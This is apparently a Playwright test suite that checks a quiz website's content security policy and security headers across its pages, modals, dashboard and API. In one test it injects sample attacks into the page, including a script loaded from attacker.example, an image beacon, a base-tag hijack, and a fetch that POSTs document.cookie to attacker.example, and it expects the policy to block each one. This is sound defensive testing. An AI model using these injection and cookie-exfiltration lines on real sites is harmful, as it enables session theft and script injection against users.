import type { Page } from '@playwright/test';
import { openDashboard, panel, signIn } from '../support/admin.ts';
import { firstVisit } from '../support/storage-state.ts';
import { completeSurvey } from '../support/survey.ts';
import { test as base, expect } from '../support/test.ts';
import { asNewVisitor } from '../support/visitor.ts';

// The product of the journeys runs in edge mode: with the headers that the CDN gives the deployed site.
type Fixtures = { readonly violations: string[] };

/** What the content security policy forbade on any page of the test. It must be nothing, unless the test says what. */
const test = base.extend<Fixtures>({
  violations: async ({ page }, use) => {
    const violations: string[] = [];

    await page.exposeFunction('noteViolation', (violation: string) => violations.push(violation));
    await page.addInitScript(() => {
      document.addEventListener(
        'securitypolicyviolation',
        ({ effectiveDirective, blockedURI, sourceFile }) =>
          Reflect.get(window, 'noteViolation')(`${effectiveDirective} ${blockedURI} ${sourceFile}`),
      );
    });
    await use(violations);
  },
});

test.use(asNewVisitor);

const directivesOf = (policy: string): ReadonlyMap<string, readonly string[]> =>
  new Map(
    policy.split('; ').map((directive) => {
      const [name = '', ...sources] = directive.split(' ');
      return [name, sources];
    }),
  );

/** Opens a page and expects of its policy what nobody may loosen. */
const openGuarded = async (page: Page, path: string): Promise<void> => {
  const answer = await page.goto(path, { waitUntil: 'networkidle' });
  const directives = directivesOf((await answer?.headerValue('content-security-policy')) ?? '');
  const all = [...directives.values()].flat();

  for (const loose of ["'unsafe-inline'", "'unsafe-eval'", '*', 'http:', 'https:', 'blob:']) {
    expect(all, `${path} allows ${loose}`).not.toContain(loose);
  }

  expect(directives.get('default-src')).toEqual(["'none'"]);
  // The hash is that of the few lines that say when the scripts do not arrive.
  expect(directives.get('script-src')).toEqual(["'self'", expect.stringMatching(/^'sha256-/)]);
  expect(directives.get('connect-src')).toEqual(["'self'"]);
  expect(directives.get('base-uri')).toEqual(["'none'"]);
  expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
  expect(directives.has('object-src')).toBe(false);
};

const noResult = '/result/AAAAAAAAAAAAAAAAAAAAAA';
const paths = [
  '/',
  '/about',
  '/contact',
  '/smartquiz',
  '/sources',
  '/accessibility',
  '/no/such/page',
  '/admin',
  '/admin/login',
  noResult,
];

test.describe('every page keeps to its policy', () => {
  test.use({ expectedConsoleErrors: [/status of (401|404)/] });

  test('in light and dark colors', async ({ page, violations }) => {
    for (const path of paths) {
      await openGuarded(page, path);
      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
      await page.emulateMedia({ colorScheme: 'dark' });
      expect([path, violations]).toEqual([path, []]);
      await page.emulateMedia({ colorScheme: 'light' });
    }
  });
});

test.describe('so does all that opens on a page', () => {
  test.use({ storageState: firstVisit });

  test('banner, menu and modals', async ({ page, violations }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await openGuarded(page, '/about');
    const banner = page.getByRole('region', { name: 'Cookie consent' });

    await banner.getByRole('button', { name: 'Customize' }).click();
    await banner.getByRole('button', { name: 'Save Preferences' }).click();
    await expect(banner).toHaveCount(0);
    await page.getByRole('button', { name: 'Open menu' }).click();
    await page.keyboard.press('Escape');
    await page.getByRole('main').getByRole('button', { name: 'Take the Smart Quiz' }).click();
    await expect(page.getByRole('dialog', { name: "Let's get rolling" })).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('contentinfo').getByRole('button', { name: 'Terms of Service' }).click();
    await expect(page.getByRole('dialog', { name: 'Terms of Service' })).toBeVisible();
    expect(violations).toEqual([]);
  });
});

test('the booking calendar is the one page that may be shown in a frame', async ({
  page,
  violations,
}) => {
  await page.route(
    (url) => url.hostname !== 'localhost',
    (route) => route.fulfill({ contentType: 'text/html', body: '<p>Pick a time</p>' }),
  );
  await openGuarded(page, '/contact');
  await page.getByRole('button', { name: 'Show the calendar' }).click();
  await expect(
    page.frameLocator('iframe[title="Booking calendar"]').getByText('Pick a time'),
  ).toBeVisible();
  expect(violations).toEqual([]);
});

test('the dashboard, its charts, a survey and the toasts', async ({ page, violations }) => {
  test.slow();
  await completeSurvey(page);
  await signIn(page);
  await openDashboard(page);
  await page.getByRole('button', { name: 'Preview Daily Summary', exact: true }).click();
  await expect(page.getByRole('region', { name: 'Notifications' })).toContainText(
    'Daily Summary Preview',
  );
  await page.getByRole('button', { name: 'Clear Test Data' }).click();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await openGuarded(page, '/admin/dashboard?tab=analytics');
  await expect(
    panel(page, 'Funnel by question').locator('svg.recharts-surface').first(),
  ).toBeVisible();

  for (const tab of ['Dropouts', 'Cookies', 'Completed']) {
    await page.getByRole('tab', { name: tab }).click();
    await expect(page.getByRole('tabpanel', { name: tab })).toBeVisible();
  }

  await page.getByRole('tab', { name: 'Completed' }).focus();
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('dialog').locator('ol li')).toHaveCount(6);
  expect(violations).toEqual([]);
});

test.describe('what an injected text could do', () => {
  test.use({ expectedConsoleErrors: [/Content Security Policy|violates the following/] });

  test('is refused and noticed', async ({ page, violations }) => {
    const foreign: string[] = [];

    await page.route(
      (url) => url.hostname !== 'localhost',
      (route) => {
        foreign.push(route.request().url());
        return route.fulfill({ body: '' });
      },
    );
    await openGuarded(page, '/');
    await page.evaluate(() => {
      const add = (tag: string, attributes: Record<string, string>, text = ''): void => {
        const element = document.createElement(tag);

        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        element.textContent = text;
        document.body.append(element);
      };

      add('script', {}, 'document.title = "taken over"');
      add('script', { src: 'https://attacker.example/a.js' });
      add('style', {}, 'body { display: none }');
      add('p', { style: 'position: fixed; inset: 0' }, 'overlay');
      add('img', { src: 'https://attacker.example/?stolen' });
      add('iframe', { src: 'https://attacker.example/' });
      add('object', { data: 'https://attacker.example/' });
      add('base', { href: 'https://attacker.example/' });
      fetch('https://attacker.example/', { method: 'POST', body: document.cookie }).catch(
        () => undefined,
      );
    });
    const directives = () => new Set(violations.map((violation) => violation.split(' ')[0]));
    const refused = [
      'script-src-elem',
      'style-src-elem',
      'style-src-attr',
      'img-src',
      'frame-src',
      'object-src',
      'base-uri',
    ];

    await expect.poll(() => [...directives()].sort()).toEqual([...refused, 'connect-src'].sort());
    expect(foreign).toEqual([]);
    await expect(page).toHaveTitle(/Find the right car/);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });
});

test('calls of the API carry the headers, too, and allow nothing', async ({ request }) => {
  const { headers } = await request
    .get('/api/me')
    .then((answer) => ({ headers: answer.headers() }));

  expect(headers['content-security-policy']).toMatch(/^default-src 'none'; frame-ancestors 'none'/);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8,}/);
  expect(headers['cross-origin-resource-policy']).toBe('same-origin');
  expect(headers['cache-control']).toBe('no-store');
});
